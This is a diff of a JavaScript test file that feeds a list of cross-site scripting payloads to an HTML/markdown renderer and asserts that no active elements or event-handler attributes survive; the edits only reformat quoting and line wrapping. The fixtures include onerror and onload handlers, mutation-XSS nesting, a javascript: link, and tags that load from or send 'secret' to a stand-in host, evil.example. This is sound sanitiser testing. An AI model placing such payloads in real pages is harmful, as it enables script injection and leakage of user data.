@@ -111,7 +111,7 @@ test.each([
   "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
   "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
   "<a id=x><base href=https://evil.example/><form action=https://evil.example/><input name=y></form></a>",
-  "<p style=\"background:url(https://evil.example/?q=secret)\">x</p>",
+  '<p style="background:url(https://evil.example/?q=secret)">x</p>',
   "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
   "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
   "[x](&#106;avascript:alert(1))",
@@ -127,7 +127,10 @@ test.each([
   "# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>\n\n- <svg onload=alert(1)>",
 ])("nothing of %s can act or reach elsewhere", (text) => {
   const place = drawn(text, [1]);
-  expect(place.querySelectorAll("script, style, svg, math, img, iframe, form, button, input, base, link, meta").length).toBe(0);
+  expect(
+    place.querySelectorAll("script, style, svg, math, img, iframe, form, button, input, base, link, meta")
+      .length,
+  ).toBe(0);
   for (const element of place.querySelectorAll("*")) {
     for (const attribute of element.attributes) {
       expect(attribute.name).not.toMatch(/^on/);
